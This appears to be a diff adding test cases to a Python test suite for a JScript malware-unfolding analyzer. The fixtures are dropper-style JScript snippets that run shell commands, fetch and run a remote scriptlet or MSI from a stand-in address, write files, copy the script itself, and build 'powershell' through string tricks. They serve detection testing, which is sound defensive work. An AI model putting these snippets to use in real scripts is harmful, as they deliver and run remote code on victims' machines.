@@ -45,6 +45,19 @@ CALLS = [
     ),
     ('GetObject("winmgmts:root\\\\cimv2").Get("Win32_Process").Create("calc.exe")', "starts calc.exe"),
     ('new ActiveXObject("Shell.Application").ShellExecute("calc.exe","-x","","open",0)', "starts calc.exe -x"),
+    ('function f(p){new ActiveXObject("WScript.Shell").Run(p, 0);}', "starts {p, 0}"),
+    ('function f(p){var s=new ActiveXObject("ADODB.Stream");s.SaveToFile(p,2);}', "writes {p,2}"),
+    ('function f(u){new ActiveXObject("MSXML2.XMLHTTP").open("GET",u,false);}', 'downloads {"GET",u,false}'),
+    ('GetObject("script:http://192.0.2.1/a.sct")', "downloads http://192.0.2.1/a.sct"),
+    ('GetObject("script:http://192.0.2.1/a.sct")', "starts script:http://192.0.2.1/a.sct"),
+    (
+        'new ActiveXObject("WindowsInstaller.Installer").InstallProduct("http://192.0.2.1/a.msi")',
+        "downloads http://192.0.2.1/a.msi",
+    ),
+    (
+        'new ActiveXObject("Scripting.FileSystemObject").CopyFile(WScript.ScriptFullName, "C:\\\\a.js")',
+        "copies itself",
+    ),
     ('new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\Run\\\\a","b")', "writes HKCU\\Run\\a"),
 ]
 DECODER = (
@@ -63,6 +76,23 @@ def test_text_comes_out(script, text, trick):
 @pytest.mark.parametrize(("script", "call"), CALLS)
 def test_what_it_does(script, call):
     assert call in unfold_jscript(script).calls
+
+
+@pytest.mark.parametrize(
+    ("script", "words"),
+    [
+        (SHELL + 's.Run("pow"+"ershell x");', ["powershell"]),
+        ("eval(String.fromCharCode(119,115,99,114,105,112,116));", ["wscript"]),
+        ('new ActiveXObject("WScript.Shell").Run("powershell x");', []),
+        ('var u="https:"+"//cdn.example/"+"a"+".js";', []),
+        ('new ActiveXObject("WindowsInstaller.Installer").InstallProduct("C:\\a.msi");', []),
+    ],
+)
+def test_what_only_unfolding_shows(script, words):
+    found = analyze(Artifact("a.js", script.encode(), "a.js"))
+    hidden = [one.value for one in found if isinstance(one, Feature) and one.name == "script.hidden"]
+    assert hidden[-len(words) or len(hidden) :] == words
+    assert bool(hidden) is bool(words)
 
 
 def test_a_decoding_function_is_followed():
